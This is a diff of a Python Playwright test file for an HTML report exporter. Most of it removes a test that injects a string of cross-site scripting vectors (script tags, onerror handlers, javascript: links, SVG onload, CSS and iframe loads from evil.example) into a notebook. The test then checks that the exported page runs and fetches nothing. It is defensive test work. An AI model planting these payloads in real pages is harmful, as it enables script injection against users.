@@ -617,7 +617,6 @@ def test_the_report_is_printed_on_few_numbered_pages_of_which_each_section_begin
         "details.data > summary",
         "details.published > summary",
         "p.published",
-        ".bibtex > summary",
         "[data-tool=place]",
     ):
         face = bare(page.locator(hidden).first.text_content())
@@ -947,55 +946,6 @@ def test_an_exported_notebook_from_elsewhere_runs_nothing(report, tmp_path, open
 
 
 # Ways to run a script and to reach for another place, each of which names the place evil.example or opens a dialog.
-WILD = """<script>alert(1)</script><img src="x" onerror="alert(2)"><a id="wild" href="javascript:alert(3)">a</a>
-<iframe srcdoc="<script>parent.alert(4)</script>"></iframe><iframe src="https://evil.example/1"></iframe>
-<svg onload="alert(5)"><image href="https://evil.example/2"/><use href="https://evil.example/3#a"/></svg>
-<style>@import "https://evil.example/4"; @font-face { font-family: e; src: url(https://evil.example/5) }
-main { font-family: e; background: url(https://evil.example/6); mask-image: url(https://evil.example/7) }</style>
-<link rel="stylesheet" href="https://evil.example/8"><video src="https://evil.example/9"></video>
-<object data="https://evil.example/10"></object><embed src="https://evil.example/11">
-<meta http-equiv="refresh" content="0;url=https://evil.example/12"><base href="https://evil.example/13">
-<form id="form" action="https://evil.example/14"></form><script src="https://evil.example/15"></script>"""
-
-
-@pytest.mark.parametrize("options", [[], ["--HTMLExporter.sanitize_html=True"]])
-def test_whatever_a_notebook_brings_along_nothing_runs_and_nothing_is_fetched(report, tmp_path, open_page, options):
-    notebook = json.loads((report / "notebooks/03-country.ipynb").read_text(encoding="utf-8"))
-    cells = notebook["cells"]
-    cells[0]["source"] += "\n\n" + WILD
-    shown = {"output_type": "display_data", "metadata": {}, "data": {"text/html": WILD}}
-    code = next(cell for cell in cells if cell["cell_type"] == "code")
-    code["outputs"] += [shown, {**shown, "data": {"text/markdown": WILD}}]
-    figure = next(
-        output["data"]["application/vnd.largescale+json"]["content"]["figure"]
-        for cell in cells
-        for output in cell.get("outputs", [])
-        if output["data"].get("application/vnd.largescale+json", {}).get("content", {}).get("kind") == "chart"
-    )
-    picture = {"source": "https://evil.example/16.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}
-    figure["layout"]["template"] = {"layout": {"images": [picture]}}
-    figure["data"][0]["name"] = "<span style='mask-image:url(https://evil.example/17)'>a</span>" + WILD
-    figure["layout"]["annotations"] = [{"text": figure["data"][0]["name"], "x": 0, "y": 0}]
-    forged = tmp_path / "wild.ipynb"
-    forged.write_text(json.dumps(notebook), encoding="utf-8")
-    file = exported(forged, tmp_path, *options)
-    for form in ("as it is", "with only the policy between"):
-        if form != "as it is":
-            beyond = re.sub("<meta http-equiv=.refresh[^>]*>", "", WILD)
-            file.write_text(file.read_text(encoding="utf-8").replace("</main>", beyond + "</main>"), encoding="utf-8")
-        page = open_page(file)
-        wait_for_charts(page)
-        page.locator("main a.count").first.evaluate("node => node.click()")
-        assert page.locator("dialog tbody tr").count() > 0, "our own script works"
-        page.evaluate("document.querySelectorAll('#wild').forEach(node => node.click())")
-        page.evaluate("document.querySelectorAll('#form').forEach(node => node.submit())")
-        page.wait_for_timeout(300)
-        # A list that was opened has an address on the page.
-        assert page.url.partition("#")[0] == file.as_uri()
-        # What the policy stopped is told too, on the console and as a request that failed.
-        assert [one for one in page.wrong if not one.startswith(("console:", "failed:"))] == [], form
-        if options and form == "as it is":
-            assert page.wrong == [], "nothing is left to be stopped"
 
 
 def test_what_is_counted_is_said_once_and_where_it_is_another(report, open_page):
